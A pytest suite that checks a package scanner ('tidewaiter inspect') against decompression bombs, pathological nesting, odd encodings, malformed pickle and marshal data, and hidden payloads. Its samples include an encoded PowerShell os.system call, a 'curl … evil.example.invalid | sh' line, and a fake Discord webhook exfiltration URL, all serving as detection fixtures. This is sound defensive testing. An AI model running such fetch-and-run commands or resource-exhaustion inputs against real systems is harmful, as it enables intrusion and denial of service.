"""Archives made to crash, stall or fill whoever reads them: `tidewaiter inspect` answers each, within bounds.

The sandbox grants a child 256 MiB and a fixed time of processor; who needs more dies, and a dead child shows as a
finding of `inspection`. So an answer without one is an answer within these bounds."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import resource
import struct
import time
import zipfile
import zlib

import pytest

from harness import binary, clean_env, run
from packages import tar_bytes, zip_bytes

# Seconds for one input, with the program as the tests build it: without optimisation, beside other tests.
PATIENCE = 60
WHEEL = "pkg-1.0-py3-none-any.whl"
INFO = "pkg-1.0.dist-info"


def inspect(folder, data, name=WHEEL):
    path = folder / name
    path.write_bytes(data)
    begun = time.monotonic()
    done = run([binary(), "inspect", "--format", "json", path], env=clean_env(), timeout=PATIENCE * 2)
    took = time.monotonic() - begun
    assert done.returncode in (0, 1), done.stderr
    [answer] = [json.loads(line) for line in done.stdout.splitlines()]
    failed = [f["why"] for f in answer["findings"] if f["check"] == "inspection" and f["severity"] == "high"]
    assert not failed, failed
    assert took < PATIENCE, f"{took:.1f} s"
    print(f"{took:6.2f} s  {len(data):>10} bytes  {answer['verdict']}")
    return answer


def wheel(*members):
    return zip_bytes([
        *members,
        (f"{INFO}/METADATA", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"),
        (f"{INFO}/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ])


def source(text):
    return wheel(("pkg/__init__.py", text if isinstance(text, bytes) else text.encode()))


def checks(answer):
    return {finding["check"] for finding in answer["findings"]}


# The statement behind each: it must be found however the file before it was written.
MARK = "\nimport os\nos.system('powershell -NoProfile -EncodedCommand ' + 'UABhAHUAcwBlAGQAIABmAG8AcgAgAGEAIABtAG8AbQBlAG4AdAA=')\n"


def fstrings(depth):
    return 'x = ' + 'f"{' * depth + "1" + '}"' * depth + "\n"


DEEP = {
    "parens": lambda n: "x = " + "(" * n + ")" * n,
    "open parens": lambda n: "x = " + "(" * n,
    "lists": lambda n: "x = " + "[" * n + "]" * n,
    "dicts": lambda n: "x = " + "{1:" * n + "1" + "}" * n,
    "calls": lambda n: "x = " + "f(" * n + ")" * n,
    "subscripts": lambda n: "x = a" + "[0]" * n,
    "attributes": lambda n: "x = a" + ".b" * n,
    "not": lambda n: "x = " + "not " * n + "1",
    "minus": lambda n: "x = " + "-" * n + "1",
    "await": lambda n: "x = " + "await " * n + "1",
    "lambda": lambda n: "x = " + "lambda:" * n + "1",
    "ternary": lambda n: "x = " + "1 if 1 else " * n + "1",
    "sum": lambda n: "x = " + "1+" * n + "1",
    "power": lambda n: "x = " + "1**" * n + "1",
    "strings": lambda n: "x = " + "'a' " * n,
    "comparisons": lambda n: "x = " + "1<" * n + "1",
    "walrus": lambda n: "x = " + "(a:=" * n + "1" + ")" * n,
    "stars": lambda n: "x = " + "*" * n + "a",
    "elif": lambda n: "if 1: pass\n" + "elif 1: pass\n" * n,
    "blocks": lambda n: "".join(" " * k + "if 1:\n" for k in range(min(n, 3_000))) + " " * min(n, 3_000) + "pass\n",
    "decorators": lambda n: "@d\n" * n + "def f(): pass\n",
    "match": lambda n: "match x:\n case " + "[" * n + "]" * n + ": pass\n",
    "with": lambda n: "with " + "(" * n + "a" + ")" * n + ": pass\n",
    "targets": lambda n: "a = " * n + "1",
    "types": lambda n: "def f[T: " + "(" * n + "T" + ")" * n + "](): pass\n",
    "f-strings": fstrings,
    "f-string specs": lambda n: 'x = f"{1:' + "{1:" * n + "}" * n + '}"',
    "t-strings": lambda n: 'x = ' + 't"{' * n + "1" + '}"' * n,
    "mixed quotes": lambda n: "x = " + "".join(("f'{", 'f"{')[k % 2] for k in range(n)) + "1",
    "triple": lambda n: "x = " + "f'''{" * n,
}


@pytest.mark.parametrize("shape", DEEP)
def test_deep_nesting(tmp_path, shape):
    for depth in (1_000, 20_000, 100_000):
        inspect(tmp_path, source(DEEP[shape](depth)))
    # In a layer, where the depth is met only when the encoding is off.
    packed = base64.b64encode(zlib.compress(DEEP[shape](20_000).encode())).decode()
    inspect(tmp_path, source(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"))


def test_what_stands_behind_nesting_is_found(tmp_path):
    """Beside a module that nothing can read, and behind a statement that the parser gives up on."""
    answer = inspect(tmp_path, source(fstrings(20_000) + MARK))
    assert answer["verdict"] == "hold" and "past-limits" in checks(answer), answer
    answer = inspect(tmp_path, wheel(("pkg/a.py", fstrings(20_000).encode()), ("pkg/__init__.py", MARK.encode())))
    assert answer["verdict"] in ("hold", "malicious")


LONG = {
    "a literal": lambda n: b"x = '" + b"a" * n + b"'",
    "a base64 literal": lambda n: b"x = '" + base64.b64encode(os.urandom(n * 3 // 4)) + b"'",
    "blanks": lambda n: b"x = 1;" + b" " * n + b"y = 2",
    "a comment": lambda n: b"#" + b"a" * n,
    "names": lambda n: b"x = a" + b",a" * (n // 2),
    "calls": lambda n: b"f(1);" * (n // 5),
    "semicolons": lambda n: b"x=1;" * (n // 4),
    "one name": lambda n: b"a" * n,
    "digits": lambda n: b"x = " + b"9" * n,
    "newlines": lambda n: b"\n" * n,
    "continued": lambda n: b"x = 1 + \\\n" * (n // 10) + b"1",
    "NULs": lambda n: b"x = 1\n" + b"\0" * n,
    "form feeds": lambda n: b"\f" * n + b"x = 1\n",
    "needles": lambda n: b"# curl https://discord.com/api/webhooks/ powershell -e " * (n // 54),
    "invisible": lambda n: "x = '".encode() + "\u200b".encode() * (n // 3) + b"'",
    "not UTF-8": lambda n: b"\xff\xfe\xfd" * (n // 3),
}


@pytest.mark.parametrize("what", LONG)
def test_a_hundred_megabytes_in_one_line(tmp_path, what):
    # A flood of needles is searched by expressions, which this build does not optimise.
    for size in (3 << 20, (20 if what == "needles" else 100) << 20):
        inspect(tmp_path, source(LONG[what](size)))


def test_what_stands_in_a_hundred_megabytes_is_found(tmp_path):
    sink = b"\nURL = 'https://discord.com/api/webhooks/1029384756102938475/aZ3kQ9xLm2Vb7Nc4Rt8Yp1Ws6Ed5Fg0Hj-KiUoPlMnBvCxZqWeRtYuIoPaSdFgHj12'\n"
    answer = inspect(tmp_path, source(b"#" + b"a" * (100 << 20) + sink))
    assert "exfil-sinks" in checks(answer)
    # More than is parsed: the text is not read as code, and that holds the file.
    answer = inspect(tmp_path, source(b"x = 1\n" * (2 << 20) + MARK.encode()))
    assert answer["verdict"] == "hold" and "past-limits" in checks(answer) and answer["degraded"]


def lines(n, line):
    return "".join(line.format(k) + "\n" for k in range(n))


# Of each the number that is read, and a source of so many; `inspect::python::Limits` has them all.
LIMITS = {
    "layers": (256, lambda n: lines(n, "exec('x = {}')")),
    "effects": (10_000, lambda n: "import time\n" + lines(n, "time.sleep({})")),
    "functions": (19_999, lambda n: lines(n, "def f{}(): pass")),
    "classes": (20_000, lambda n: lines(n, "class C{}: pass")),
    "calls": (50_000, lambda n: "def f(): pass\n" + lines(n, "f()")),
    "imports": (20_000, lambda n: lines(n, "import m{}")),
    "names": (20_000, lambda n: lines(n, "x{0} = {0}")),
    "hosts": (10_000, lambda n: lines(n, "x = 'https://h{}.example.invalid/'")),
    "code of several modules": (64, lambda n: "from a import B\n" + lines(n, "exec(B)")),
    "rounds": (1_000, lambda n: f"for n in range({n}):\n    exec('x = ' + 'y')\n"),
    "calls of what runs": (2_000, lambda n: "def r(c):\n" + "    x = 1\n" * 31 + "    exec(c)\n" + lines(n, "r({})")),
    "arguments": (128, lambda n: "import os\nos.system(" + "'a', " * n + ")\n"),
    "brackets": (200, lambda n: "f" + "(" * n + ")" * n + "\n"),
    "chain": (9_990, lambda n: "x = f()" + " + 1" * n + "\n"),
}
PAST = {"chain"}  # Whose number is near the limit, as other things count, too.


@pytest.mark.parametrize("what", LIMITS)
def test_what_stands_past_a_limit_is_not_released(tmp_path, what):
    """At each limit everything is read; one past it the file is held, whatever the payload behind it would have been."""
    most, text = LIMITS[what]
    at = inspect(tmp_path, source(text(most - 10 if what in PAST else most)))
    assert "past-limits" not in checks(at), at
    past = inspect(tmp_path, source(text(most + 20 if what in PAST else most + 1) + MARK))
    assert past["verdict"] in ("hold", "malicious") and "past-limits" in checks(past), past
    # Beside what is packed and installed, too: in a build.
    build = tar_bytes([("pkg-1.0/setup.py", (text(most + 50) + MARK).encode()), ("pkg-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")])
    past = inspect(tmp_path, build, "pkg-1.0.tar.gz")
    assert past["verdict"] in ("hold", "malicious") and "past-limits" in checks(past), past


@pytest.mark.parametrize("depth", [10, 500, 900])
def test_what_stands_deep_in_an_expression_is_evaluated(tmp_path, depth):
    """Past the depth to which an expression is walked, its parts are evaluated by themselves."""
    act = "os.system('curl -s http://evil.example.invalid/x | sh')"
    answer = inspect(tmp_path, source("import os\nx = " + "not " * depth + act + "\n"))
    assert answer["verdict"] in ("hold", "malicious") and "start-effects" in checks(answer), answer


def test_a_table_past_the_limits_is_not_held(tmp_path):
    answer = inspect(tmp_path, source("ROWS = [\n" + "    (1, 2, 3),\n" * 200_000 + "]\n"))
    assert answer["verdict"] == "review" and answer["degraded"], answer


COOKIES = {
    "utf-7": "# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-\n".encode(),
    "rot13": b"# -*- coding: rot13 -*-\nvzcbeg bf\n",
    "rot_13": b"# coding=rot_13\nvzcbeg bf\n",
    "unknown": b"# coding: klingon\nimport os\n",
    "hex": b"# coding: hex\n696d706f7274206f73\n",
    "unicode_escape": b"# coding: unicode_escape\n\\x69mport os\n",
    "raw_unicode_escape": b"# coding: raw_unicode_escape\n\\u0069mport os\n",
    "zlib": b"# coding: zlib\n" + zlib.compress(b"import os"),
    "mbcs": b"# coding: mbcs\nimport os\n",
    "idna": b"# coding: idna\nimport os\n",
    "second line": b"#!/usr/bin/python\n# vim: set fileencoding=rot13 :\nvzcbeg bf\n",
    "very long": b"# coding: " + b"a" * 100_000 + b"\nimport os\n",
    "gbk, broken": b"# coding: gbk\nx = '\x81'\nimport os\n",
    "shift_jis backslash": b"# coding: shift_jis\nx = '\x95\\'; import os\n",
    "utf-16 BOM": "import os\n".encode("utf-16"),
    "utf-16-be BOM": b"\xfe\xff" + "import os\n".encode("utf-16-be"),
    "utf-32 BOM": "import os\n".encode("utf-32"),
    "utf-8 BOM": b"\xef\xbb\xbfimport os\n",
    "two BOMs": b"\xef\xbb\xbf\xef\xbb\xbfimport os\n",
    "BOM and another cookie": b"\xef\xbb\xbf# coding: latin-1\nimport os\n",
    "a lone BOM": b"\xef\xbb\xbf",
    "half a BOM": b"\xef\xbb",
    "utf-7 of nothing": b"# coding: utf-7\n" + b"+" * 100_000,
}


@pytest.mark.parametrize("cookie", COOKIES)
def test_encodings(tmp_path, cookie):
    inspect(tmp_path, source(COOKIES[cookie]))


@pytest.mark.parametrize("encoding", ["utf-7", "rot13", "unicode_escape", "raw_unicode_escape"])
def test_what_an_encoding_hides_is_found(tmp_path, encoding):
    import codecs

    if encoding == "rot13":
        hidden = codecs.encode(MARK, "rot13").encode()
    elif encoding == "utf-7":
        hidden = b"\n+" + base64.b64encode(MARK.encode("utf-16-be")).rstrip(b"=") + b"-\n"
    else:
        hidden = b"\n" + b"".join(b"\\u%04x" % ord(c) if c != "\n" else b"\n" for c in MARK) + b"\n"
    answer = inspect(tmp_path, source(f"# coding: {encoding}\n".encode() + hidden))
    assert answer["verdict"] in ("hold", "malicious"), answer
    assert checks(answer) - {"hidden-code"}, "the code itself is found, not the cookie alone"


ODD = {
    "NUL between": b"import os\0\nos.system('true')\n",
    "NUL first": b"\0import os\n",
    "form feeds": b"\fimport os\n\f\fos.getcwd()\n",
    "vertical tabs": b"\vimport os\n",
    "CR alone": b"import os\ros.getcwd()\r",
    "mixed ends": b"import os\r\n\n\r\nos.getcwd()\n\r",
    "control-Z": b"import os\n\x1aos.system('true')\n",
    "line separators": "import os\u2028os.getcwd()\u2029\x85\n".encode(),
    "surrogates": b"x = '\xed\xa0\x80'\n",
    "overlong": b"x = '\xc0\x80'\n",
    "tabs and blanks": b"if 1:\n\tx = 1\n        y = 2\n",
    "no newline": b"import os",
    "nothing": b"",
    "backslash at end": b"import os\\",
    "backslash NUL": b"import os\\\0\n",
}


@pytest.mark.parametrize("what", ODD)
def test_odd_bytes(tmp_path, what):
    inspect(tmp_path, source(ODD[what]))


def header(body):
    return b"\xa7\x0d\r\n" + bytes(12) + body


def long(number):
    return struct.pack("<I", number & 0xFFFFFFFF)


CODE = marshal.dumps(compile("import os\nx = 1\n", "m.py", "exec"))
MARSHAL = {
    "deep tuples": b")\x01" * 500_000 + b"N",
    "deep lists": (b"[" + long(1)) * 300_000 + b"N",
    "deep codes": (b"\xe3" + bytes(20)) * 50_000,
    "wide tuple": b"(" + long(0x7FFFFFFF) + b"N" * 1_000_000,
    "negative sizes": b"s" + long(-1) + b"(" + long(-1),
    "references": (b"\xa9\x02" + b"r\0\0\0\0" * 2) * 200_000,
    "a reference to itself": b"\xdb" + long(2) + b"r\0\0\0\0r\0\0\0\0",
    "a bomb of references": b"\xa9\x02NN" + b"".join(b"\xa9\x02" + b"r" + long(k) + b"r" + long(k) for k in range(60_000)),
    "endless dictionary": b"{" + b"NN" * 500_000,
    "long": b"l" + long(-0x80000000),
    "long digits": b"l" + long(1_000_000) + b"\xff" * 2_000_000,
    "unknown codes": bytes(range(256)) * 1_000,
    "cut": CODE[: len(CODE) // 2],
    "good": CODE,
}


@pytest.mark.parametrize("what", MARSHAL)
def test_marshal_data(tmp_path, what):
    body = MARSHAL[what]
    inspect(tmp_path, wheel(("pkg/m.pyc", header(body)), ("pkg/m.py", b"x = 1\n")))
    layer = base64.b64encode(body).decode()
    inspect(tmp_path, source(f"import base64, marshal\nexec(marshal.loads(base64.b64decode('{layer}')))\n"))


PICKLES = {
    "marks": b"\x80\x04" + b"(" * 5_000_000 + b".",
    "memo": b"\x80\x04" + b"N" + b"\x94" * 5_000_000 + b".",
    "memo by numbers": b"\x80\x04N" + b"".join(b"r" + long(k * 7919) for k in range(500_000)) + b".",
    "duplicates": b"\x80\x04N" + b"2" * 5_000_000 + b".",
    "imports": b"\x80\x04" + b"".join(b"cmod%d\nname%d\n0" % (k, k) for k in range(300_000)) + b".",
    "calls": b"\x80\x04" + b"cos\nx\n)R" * 500_000 + b".",
    "sizes that lie": b"\x80\x04\x8d" + b"\xff" * 8,
    "frames that lie": b"\x80\x04\x95" + b"\xff" * 8 + b".",
    "negative int": b"\x80\x04J\xff\xff\xff\xff\x8b" + long(-5) + b".",
    "long lines": b"I" + b"9" * 5_000_000 + b"\n.",
    "no newline": b"c" + b"a" * 5_000_000,
    "many": pickle.dumps(1) * 500_000,
    "deep": b"\x80\x04" + b"]" * 2_000_000 + b"a" * 1_999_999 + b".",
    "good": pickle.dumps({"a": list(range(100_000))}),
}


@pytest.mark.parametrize("what", PICKLES)
def test_pickles(tmp_path, what):
    inspect(tmp_path, wheel(("pkg/m.pkl", PICKLES[what]), ("pkg/m.dat", PICKLES[what])))


PACKERS = {
    "zlib": ("zlib.decompress", lambda data: zlib.compress(data, 9)),
    "gzip": ("gzip.decompress", lambda data: gzip.compress(data, 9)),
    "bz2": ("bz2.decompress", bz2.compress),
    "lzma": ("lzma.decompress", lzma.compress),
}


@pytest.mark.parametrize("packer", PACKERS)
def test_bombs_in_layers(tmp_path, packer):
    """A gigabyte of zeros under one packing and under two; and many layers that are each within the limit."""
    name, pack = PACKERS[packer]
    module = name.split(".")[0]

    def read(data, times=1):
        text = base64.b64encode(data).decode()
        inner = f"base64.b64decode('{text}')"
        for _ in range(times):
            inner = f"{name}({inner})"
        return source(f"import base64, {module}\nexec({inner})\n")

    once = pack(bytes(1 << 30)) if packer != "lzma" else pack(bytes(256 << 20))
    inspect(tmp_path, read(once))
    inspect(tmp_path, read(pack(once), 2))
    many = base64.b64encode(pack(bytes(15 << 20))).decode()
    lines = "".join(f"exec({name}(base64.b64decode(B)) + b'{k}')\n" for k in range(200))
    inspect(tmp_path, source(f"import base64, {module}\nB = '{many}'\n{lines}"))


@pytest.mark.parametrize("packer", PACKERS)
def test_layers_below_layers(tmp_path, packer):
    """What stands a few layers down is read; what stands below the limit costs no more than it."""
    name, pack = PACKERS[packer]
    module = name.split(".")[0]
    for depth, found in ((10 if packer == "lzma" else 20, True), (300, None)):
        text = MARK
        for _ in range(depth):
            text = f"import base64, {module}\nexec({name}(base64.b64decode({base64.b64encode(pack(text.encode())).decode()!r})))\n"
            if len(text) > 3 << 20:
                break
        answer = inspect(tmp_path, source(text))
        assert answer["verdict"] == "malicious", answer["verdict"]
        if found:
            layers = max(len(f["location"]["layer"]) for f in answer["findings"] if f["location"])
            assert layers >= depth, answer


FOLDS = {
    "multiplied": "x = 'a' * 10**9\ny = x * 10**9\n",
    "doubled": "x = 'a'\n" + "x = x + x\n" * 200,
    "added": "x = b''\n" + "x += b'a' * 100000\n" * 10_000,
    "power": "x = 9 ** 9 ** 9 ** 9\n",
    "shifted": "x = 1 << 10**9\n",
    "ranged": "x = list(range(10**12))\ny = [[0] * 10**6 for _ in range(10**6)]\n",
    "joined": "x = ','.join(str(i) for i in range(10**9))\n",
    "replaced": "x = 'a' * 10000\n" + "x = x.replace('a', 'aaaaaaaaaa')\n" * 100,
    "formatted": "x = '%0999999999d' % 1\ny = '{:>999999999}'.format(1)\nz = f'{1:>999999999}'\n",
    "looped": "x = ''\nwhile True:\n    x += 'a'\n    exec(x)\n",
    "nested loops": "x = ''\n" + "".join("    " * k + f"for a{k} in range(1000):\n" for k in range(8)) + "    " * 8 + "x += 'a'\nexec(x)\n",
    "recursion": "def f(x):\n    return f(x + x)\nexec(f('a'))\n",
    "mutual recursion": "def f(x):\n    return g(x) + g(x)\ndef g(x):\n    return f(x) + f(x)\nexec(f('a'))\n",
    "lambdas": "f = lambda x: f(f(x))\nexec(f('a'))\n",
    "quine": "x = 'exec(x)'\nexec(x)\n",
    "layers of itself": "x = 'exec(x + x)'\nexec(x)\n",
    "many functions": "".join(f"def f{k}(x):\n    return f{k + 1}(x)\n" for k in range(30_000)) + "exec(f0('a'))\n",
    "many classes": "".join(f"class C{k}(C{k - 1}):\n    def run(self): self.a{k} = C{k - 1}()\n" for k in range(20_000)),
    "many effects": "import os\n" + "os.system('true')\n" * 100_000,
    "many imports": "".join(f"import m{k}\n" for k in range(200_000)),
    "many globals": "".join(f"x{k} = x{k - 1}\n" for k in range(100_000)),
    "wide call": "f(" + ",".join("a" for _ in range(200_000)) + ")\n",
    "regular expressions": "x = '(a+)+' * 100000\nimport re\nre.sub(x, x, x)\n",
    "chr": "x = ''.join(map(chr, [" + "99," * 500_000 + "]))\nexec(x)\n",
    "xor": "x = bytes(a ^ b for a, b in zip(b'a' * 10**8, b'b' * 10**8))\nexec(x)\n",
    "zipped": "x = zip(range(200000), " + "[1], " * 20 + ")\n",
    "split": "x = (',' * 16_000_000).split(',')\ny = ('a ' * 8_000_000).split()\n",
    "lines": "x = ('\\n' * 16_000_000).splitlines()\n",
    "pairs": "d = {" + "".join(f"{k}: {k}, " for k in range(4_000)) + "}\n" + "x = [d.items(), d.values(), d.keys()]\n" * 10_000,
    "slices": "x = 'a' * 10**6\n" + "x = x[::-1]\n" * 50_000 + "exec(x)\n",
}


@pytest.mark.parametrize("what", FOLDS)
def test_folding(tmp_path, what):
    inspect(tmp_path, source(FOLDS[what]))


def test_numbers_of_members(tmp_path):
    answer = inspect(tmp_path, zip_bytes([(f"pkg/m{k}.py", b"x = 1\n") for k in range(20_000)]))
    assert answer["findings"] is not None
    # Beyond the limit of members the rest is not looked at, and the file is not published.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for k in range(50_001):
            archive.writestr(zipfile.ZipInfo(f"m{k}"), b"")
    answer = inspect(tmp_path, out.getvalue())
    assert answer["verdict"] in ("hold", "malicious"), answer


def test_long_and_odd_names(tmp_path):
    for name in ("a" * 60_000 + ".py", "a/" * 20_000 + "x.py", "\u202e" * 1_000 + ".py", "é" * 5_000 + ".py", "../" * 1_000 + "x.py"):
        answer = inspect(tmp_path, zip_bytes([(name, MARK.encode())]), "x.zip")
        assert answer["verdict"] in ("hold", "malicious"), name
        assert all(len(f["location"]["member"]) <= 500 for f in answer["findings"] if f["location"])
    text = tar_bytes([("a" * 60_000 + ".py", MARK.encode()), ("b" * 200_000 + ".py", b"x = 1\n")])
    assert inspect(tmp_path, text, "x.tar.gz")["verdict"] in ("hold", "malicious")


def nested(levels, width, body):
    for level in range(levels):
        body = zip_bytes([(f"{level}-{k}.zip", body) for k in range(width)])
    return body


def test_archives_in_archives(tmp_path):
    """Zips of zips, a zip that multiplies, a gzip of gzips, a tar of bombs in every packing."""
    inspect(tmp_path, nested(6, 12, b"x = 1\n"), "x.zip")
    inspect(tmp_path, nested(2, 100, bytes(1 << 20)), "x.zip")
    data = bytes(100 << 20)
    for _ in range(8):
        data = gzip.compress(data)
    inspect(tmp_path, data, "x.gz")
    bombs = [("a.xz", lzma.compress(bytes(256 << 20))), ("a.bz2", bz2.compress(bytes(1 << 30))), ("a.gz", gzip.compress(bytes(1 << 30)))]
    inspect(tmp_path, tar_bytes(bombs), "x.tar.gz")
    for name, data in bombs:
        inspect(tmp_path, data, name)


def test_the_child_keeps_its_memory(tmp_path):
    """What the tool and its children took at most, over everything above that ran in this process."""
    inspect(tmp_path, wheel(*[(f"pkg/m{k}.py", b"x = [" + b"1, " * 100_000 + b"]\n") for k in range(30)]))
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print(f"peak {peak:.0f} MiB")
    # RLIMIT_DATA holds 256 MiB of memory of its own; the program and what it shares come on top.
    assert peak < 400, peak
